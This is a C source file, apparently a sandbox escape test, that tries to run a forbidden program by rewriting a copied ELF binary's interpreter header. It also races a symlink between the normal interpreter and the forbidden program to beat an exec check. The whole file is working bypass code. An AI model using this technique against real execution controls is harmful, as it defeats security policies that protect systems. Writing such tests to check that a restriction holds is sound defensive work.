/* Has the kernel execute a program that may not be executed (argv[1]), as the interpreter that the header of
 * another one names: always that one, or by a link that leads to the usual one half of the time. */
#include "attack.h"
#include <elf.h>
#include <limits.h>

static char program[1 << 20];

/* Makes `name` a copy of this program whose interpreter is `way`; the interpreter of before goes to `usual`. */
static void make(const char *name, const char *way, char *usual) {
    int own = open("/proc/self/exe", O_RDONLY), file = open(name, O_WRONLY | O_CREAT | O_TRUNC, 0755);
    ssize_t size = read(own, program, sizeof program);
    if (own < 0 || file < 0 || size < (ssize_t)sizeof(Elf64_Ehdr)) _exit(3);
    Elf64_Ehdr *head = (void *)program;
    Elf64_Phdr *part = (void *)(program + head->e_phoff);
    for (int n = 0; n < head->e_phnum; n++)
        if (part[n].p_type == PT_INTERP) {
            strcpy(usual, program + part[n].p_offset);
            strcpy(program + part[n].p_offset, way);
            part[n].p_filesz = part[n].p_memsz = strlen(way) + 1;
        }
    if (write(file, program, size) != size) _exit(3);
    close(file);
}

static void run(const char *name) {
    int status;
    char *words[] = {(char *)name, "end", "there", NULL};
    pid_t child = fork();
    if (child == 0) {
        execve(name, words, words + 3);
        _exit(3);
    }
    if (waitpid(child, &status, 0) == child && WIFEXITED(status) && WEXITSTATUS(status) == ESCAPED) escaped(name);
}

int main(int argc, char **argv) {
    char usual[PATH_MAX];
    if (argc > 2) return 0;
    run(argv[1]);
    make("./lent", argv[1], usual);
    run("./lent");
    make("./led", "./way", usual);
    pid_t leading = fork();
    while (leading == 0) {
        for (int n = 0; n < 2; n++) {
            unlink("new");
            if (symlink(n ? usual : argv[1], "new") || rename("new", "way")) _exit(3);
            usleep(20);
        }
    }
    for (int n = 0; n < 300; n++) run("./led");
    kill(leading, SIGKILL);
    return 0;
}
